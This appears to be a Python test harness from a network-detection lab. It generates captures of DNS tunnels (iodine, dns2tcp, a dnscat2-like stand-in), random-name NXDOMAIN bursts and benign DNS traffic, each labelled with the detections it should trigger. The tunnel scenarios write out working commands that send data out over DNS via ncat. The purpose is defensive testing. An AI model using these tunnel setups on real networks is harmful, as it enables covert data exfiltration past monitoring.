"""DNS: tunnels, names that do not exist, and what healthy resolvers are asked."""

import time

from lab import GATEWAY4, OUTSIDE
from record import by, capture

TUNNEL, BURST = ["dns-tunnel"], ["nxdomain-burst", "dga"]
# A tunnel polls all the time, and its names do not all exist.
ALSO = ["beaconing", "nxdomain-burst", "data-exfiltration"]


def resolver(lab, more=""):
    """The network's resolver, on the router; names that nobody knows do not exist."""
    conf = lab.dir / "dnsmasq.conf"
    zone = f"""no-hosts
no-resolv
bind-interfaces
interface=eth0
no-dhcp-interface=eth0
local=/com/
local=/net/
local=/org/
local=/info/
local=/lan/
local=/test/
local=/io/
cache-size=0
log-facility=/dev/null
{more}
"""
    conf.write_text(zone)
    lab.router.start(f"exec dnsmasq -k -C {conf} -u root", wait=0.5)


def iodine(name, what, record, arguments="", kilobytes=10, snap=0):
    domain = f"{record.lower()}.relay-{name}.example.net"

    @capture("dnstunnel_iodine_" + name, what, snap=snap,
             expect=[(TUNNEL, by("pc1", more=[domain]))], allow=ALSO)
    def play(lab):
        lab.outside.start(f"exec iodined -f -c -l {OUTSIDE} -P hunter2 -d dns7 10.201.0.1/27 {domain}", wait=0.6)
        resolver(lab, f"server=/{domain}/{OUTSIDE}")
        yield
        lab.pc1.start(f"exec iodine -f -P hunter2 -d dns7 -T {record} {arguments} -r {GATEWAY4} {domain}", wait=6)
        lab.pc1.run("ping -q -c 3 -i 0.5 10.201.0.1")
        lab.outside.start("exec ncat -l 10.201.0.1 7000 --recv-only", wait=0.3)
        lab.pc1.run(f"head -c {kilobytes * 1000} /dev/urandom | timeout 8 ncat --send-only 10.201.0.1 7000", timeout=12)
        time.sleep(1)


iodine("null", "iodine with NULL records: three pings and 8 kB up", "NULL", "-m 700", 8)
iodine("cname", "iodine with CNAME records: three pings and 4 kB up", "CNAME", "", 4)


@capture("dnstunnel_iodine_idle", "iodine with TXT records that only keeps itself alive, 20 s", snap=0,
         expect=[(TUNNEL, by("mac", more=["idle.example.org"]))], allow=ALSO)
def idle(lab):
    lab.outside.start(f"exec iodined -f -c -l {OUTSIDE} -P hunter2 -d dns7 10.201.0.1/27 idle.example.org", wait=0.6)
    resolver(lab, f"server=/idle.example.org/{OUTSIDE}")
    yield
    lab.mac.start(f"exec iodine -f -P hunter2 -d dns7 -T TXT -I 1 -r {GATEWAY4} idle.example.org", wait=20)


def dns2tcp(record):
    domain = f"d2t-{record.lower()}.example.com"

    @capture("dnstunnel_dns2tcp_" + record.lower(), f"dns2tcp with {record} records: 3 kB up and 6 kB down over one TCP connection",
             expect=[(TUNNEL, by("pc2", more=[domain]))], allow=ALSO)
    def play(lab):
        conf = lab.dir / "dns2tcpd.conf"
        conf.write_text(f"listen = {OUTSIDE}\nport = 53\nuser = nobody\nkey = lab\nchroot = /tmp\ndomain = {domain}\n"
                        "resources = talk:127.0.0.1:7000\n")
        lab.outside.start(f"exec dns2tcpd -F -f {conf}", wait=0.5)
        lab.outside.start("while true; do head -c 6000 /dev/urandom | ncat -l 127.0.0.1 7000 >/dev/null; done", wait=0.3)
        resolver(lab, f"server=/{domain}/{OUTSIDE}")
        yield
        lab.pc2.start(f"exec dns2tcpc -z {domain} -k lab -r talk -T {record} -l 7001 {GATEWAY4}", wait=1.5)
        lab.pc2.run("head -c 3000 /dev/urandom | timeout 8 ncat -i 5 127.0.0.1 7001 > /dev/null", timeout=15)


dns2tcp("TXT")
dns2tcp("KEY")


def stand_in(name, what, arguments, client="pc3", allow=()):
    domain = f"{name.replace('_', '-')}.example.net"

    @capture("dnstunnel_stand-in_" + name, what + " (a stand-in for such tools: tools/dns_tunnel.py)",
             expect=[(TUNNEL, by(client, more=[domain]))], allow=ALSO + list(allow))
    def play(lab):
        lab.outside.start_tool("dns_server.py", f"{OUTSIDE} tunnel")
        resolver(lab, f"server=/{domain}/{OUTSIDE}")
        yield
        getattr(lab, client).tool("dns_tunnel.py", f"{GATEWAY4} {domain} {arguments}", timeout=60)


stand_in("session", "a session of commands as dnscat2 has: TXT, CNAME and MX by turns, hex labels, answers of commands up", "session 95 0.08")
stand_in("hex_upload", "a file of 3 kB as A questions, 31 bytes in hex in each", "upload-hex 95 0.05", "pc2")
stand_in("base32_upload", "a file as AAAA questions with base32 labels up to the limit of a name", "upload-base32 45 0.1", "pi")
stand_in("staged_download", "a programme fetched in 80 TXT answers, numbered short questions", "download 80 0.1", "mac")


# --- healthy questions


def questions(lab, host, pairs, pause=0.05, server=GATEWAY4):
    listing = lab.dir / "questions"
    listing.write_text("".join(f"{kind} {name}\n" for kind, name in pairs))
    host.tool("dns_ask.py", f"{server} {pause} {listing}", timeout=120)


CDN = [
    "d3a1b2c4e5f6g7.cdn.example.net", "e8c93d.dscx.edge.example.com", "r4---sn-4g5e6nsz.media.example.com",
    "prod-7f3c9a2b1d.eu-central-1.elb.cloud.example.com", "a1887.dscq.shared.example.net",
    "scontent-fra3-2.xx.static.example.com", "ip-10-20-30-40.eu-west-1.compute.cloud.example.com",
    "0a1b2c3d4e5f60718293a4b5c6d7e8f9.static.photos.example.com", "fe3cr.delivery.updates.example.com",
    "v10.events.data.telemetry.example.com", "wildcard-edgekey-global-redir.geo.example.net",
    "login.windows-ppe.tenants-00f1c2.identity.example.com", "9b7e3f2a-1c4d-4e5f-8a9b-0c1d2e3f4a5b.devices.iot.example.com",
]


@capture("quiet_dns_cdn_names", "a client asks for 65 names of content networks: long, with numbers, some with UUIDs")
def cdn(lab):
    zone = "address=/example.net/203.0.113.80\naddress=/example.com/203.0.113.81"
    resolver(lab, zone)
    yield
    names = [(kind, f"{prefix}{name}") for prefix in ("", "img-7.", "api2.", "assets-eu.", "edge04.")
             for name in CDN for kind in ("A", "AAAA")]
    questions(lab, lab.pc1, names)


@capture("quiet_dns_mail_server", "a mail server looks up SPF, DKIM and DMARC records, MX, blocklists and the names of 60 addresses")
def mail(lab):
    lab.outside.start_tool("dns_server.py", f"{OUTSIDE} mail")
    resolver(lab, f"server=/example.com/{OUTSIDE}\nserver=/example.org/{OUTSIDE}\nserver=/in-addr.arpa/{OUTSIDE}")
    yield
    pairs = []
    for n in range(20):
        domain = f"sender{n}.example.com"
        pairs += [("MX", domain), ("TXT", domain), ("TXT", f"s{2000 + n}._domainkey.{domain}"), ("TXT", f"_dmarc.{domain}")]
    for n in range(60):
        pairs.append(("PTR", f"{(n * 37) % 254 + 1}.113.0.203.in-addr.arpa"))
        if n % 3 == 0:
            pairs.append(("A", f"{(n * 37) % 254 + 1}.113.0.203.zen.dnsbl.example.org"))
    questions(lab, lab.server, pairs)


@capture("quiet_dns_antivirus", "an antivirus asks for 18 hashes of files in half a minute, among ordinary names")
def antivirus(lab):
    lab.outside.start_tool("dns_server.py", f"{OUTSIDE} antivirus")
    resolver(lab, f"server=/hashes.example.com/{OUTSIDE}\naddress=/example.org/203.0.113.82")
    yield
    import hashlib
    for n in range(18):
        name = hashlib.md5(str(n).encode()).hexdigest()
        questions(lab, lab.pc2, [("A", f"{name}.rev2.hashes.example.com"), ("A", f"www{n % 5}.example.org")])
        time.sleep(1.4)


@capture("quiet_dns_dnssec", "a validating resolver asks for DNSKEY, DS and answers with RRSIG and NSEC3 of a signed zone, 32 questions")
def dnssec(lab):
    folder = lab.dir / "bind"
    folder.mkdir(exist_ok=True)
    (folder / "zone").write_text("$TTL 300\n@ SOA ns1.signed.example. admin.signed.example. 1 3600 600 86400 300\n@ NS ns1\nns1 A "
                                 + OUTSIDE + "\n" + "".join(f"host{n} A 203.0.113.{80 + n % 16}\nhost{n} TXT \"place {n}\"\n" for n in range(20)))
    (folder / "named.conf").write_text(
        f'options {{ directory "{folder}"; listen-on {{ {OUTSIDE}; }}; listen-on-v6 {{ none; }}; recursion no; pid-file none; }};\n'
        'dnssec-policy lab { keys { ksk lifetime unlimited algorithm rsasha256 2048; zsk lifetime unlimited algorithm rsasha256 2048; }; '
        'nsec3param iterations 0 optout no salt-length 8; };\n'
        f'zone "signed.example" {{ type primary; file "{folder}/zone"; dnssec-policy lab; inline-signing yes; }};\n'
        'controls { };\n')
    lab.outside.start(f"chmod -R a+rwX {folder}; exec named -g -c {folder}/named.conf", wait=5)
    yield
    for name, kind in [("signed.example", "DNSKEY"), ("signed.example", "SOA"), ("signed.example", "NSEC3PARAM")]:
        lab.router.run(f"dig +dnssec +norecurse +tries=1 @{OUTSIDE} {kind} {name}")
    lab.server.run("; ".join(
        f"dig +dnssec +norecurse +tries=1 +bufsize=1232 @{OUTSIDE} {kind} {name}.signed.example >/dev/null"
        for n in range(8) for kind, name in (("A", f"host{n}"), ("TXT", f"host{n}"), ("AAAA", f"host{n}"), ("A", f"gone{n}"))),
        timeout=60)


# --- names that do not exist

WORDS = """amber apple arrow autumn barrel basket beacon bottle branch bridge button candle canvas castle cherry circle
cloud copper corner cotton crystal desert dinner doctor dragon engine escape falcon feather finger flower forest frozen
garden gentle ginger golden guitar hammer harbor hidden hollow island jacket jungle kitchen ladder lantern leather
letter lumber magnet marble market meadow metal mirror modern monkey motion narrow needle nickel ocean orange
palace paper pencil pepper pillow planet pocket purple rabbit ribbon river rocket saddle salmon secret shadow silver
simple spring statue stream summer sunset tennis thunder timber ticket tunnel velvet violet walnut window winter yellow""".split()


@capture("nxdomain_words", "150 names of two or three words under .com and .net in 15 s, as families with word lists make; none exists",
         expect=[(BURST, by("pc1"))], allow=BURST + ["dns-tunnel"])
def words(lab):
    resolver(lab)
    yield
    names = []
    for n in range(150):
        parts = [WORDS[(n * 7 + k * 31 + n * n * k) % len(WORDS)] for k in range(2 + n % 2)]
        names.append(("A", "".join(parts) + (".com", ".net")[n % 2]))
    questions(lab, lab.pc1, names, 0.1)


@capture("nxdomain_hex_info", "120 names of 12 to 16 hex digits under .info and .org, two a second; two exist",
         expect=[(BURST, by("mac"))], allow=BURST + ["dns-tunnel", "beaconing"])
def hexes(lab):
    import hashlib
    names = [hashlib.sha256(b"seed" + bytes([n])).hexdigest()[:12 + n % 5] + (".info", ".org")[n % 2] for n in range(120)]
    resolver(lab, "".join(f"address=/{names[n]}/203.0.113.90\n" for n in (55, 110)))
    yield
    questions(lab, lab.mac, [("A", n) for n in names], 0.5)


@capture("nxdomain_letters_fast", "90 names of ten random letters under .com in 3 s, A and AAAA",
         expect=[(BURST, by("pi"))], allow=BURST + ["dns-tunnel"])
def letters(lab):
    import random
    chance = random.Random(50)
    resolver(lab)
    yield
    names = ["".join(chance.choice("bcdfghjklmnpqrstvwxyzaeiou") for _ in range(10)) + ".com" for _ in range(90)]
    questions(lab, lab.pi, [(kind, n) for n in names for kind in ("A", "AAAA")], 0.015)


@capture("quiet_dns_search_domain", "a client with a search domain: each of 35 names first with .corp.lan, which does not exist", )
def search(lab):
    resolver(lab, "address=/example.com/203.0.113.81\naddress=/example.org/203.0.113.82")
    yield
    pairs = []
    for n in range(35):
        name = f"{WORDS[n]}.{('example.com', 'example.org')[n % 2]}"
        pairs += [("A", f"{name}.corp.lan"), ("AAAA", f"{name}.corp.lan"), ("A", name), ("AAAA", name)]
    questions(lab, lab.pc2, pairs, 0.12)


@capture("quiet_dns_no_ipv6", "a client asks A and AAAA for 50 names that have no AAAA: answers without records")
def no_ipv6(lab):
    resolver(lab, "address=/example.com/203.0.113.81\naddress=/example.org/203.0.113.82")
    yield
    questions(lab, lab.pc3, [(kind, f"{w}.example.com") for w in WORDS[:50] for kind in ("A", "AAAA")], 0.06)


@capture("quiet_dns_ad_blocker", "a resolver that blocks advertising: 25 names get 0.0.0.0, 15 do not exist, among 80 that do")
def ads(lab):
    blocked = "".join(f"address=/ads{n}.example.net/0.0.0.0\n" for n in range(25))
    resolver(lab, blocked + "address=/example.com/203.0.113.81")
    yield
    pairs = []
    for n in range(80):
        pairs.append(("A", f"{WORDS[n % len(WORDS)]}{n}.example.com"))
        if n < 25:
            pairs.append(("A", f"ads{n}.example.net"))
        if n < 15:
            pairs.append(("A", f"track{n}.example.net"))
    questions(lab, lab.mac, pairs, 0.1)


@capture("quiet_dns_blocked_retry", "a device asks every second for one telemetry name that does not exist, 60 times")
def retry(lab):
    resolver(lab)
    yield
    questions(lab, lab.pi, [("A", "telemetry.maker-of-tvs.com")] * 60, 0.6)


@capture("quiet_dns_chromium_probes", "a browser starts: three random single labels, then ordinary names")
def probes(lab):
    resolver(lab, "address=/example.com/203.0.113.81\nlocal=//")
    yield
    pairs = [("A", n) for n in ("kqzvjwhdnfa", "yrtpxmbcoel", "wgusdhqkzvi")]
    questions(lab, lab.pc1, pairs + [("A", f"{w}.example.com") for w in WORDS[:15]], 0.1)
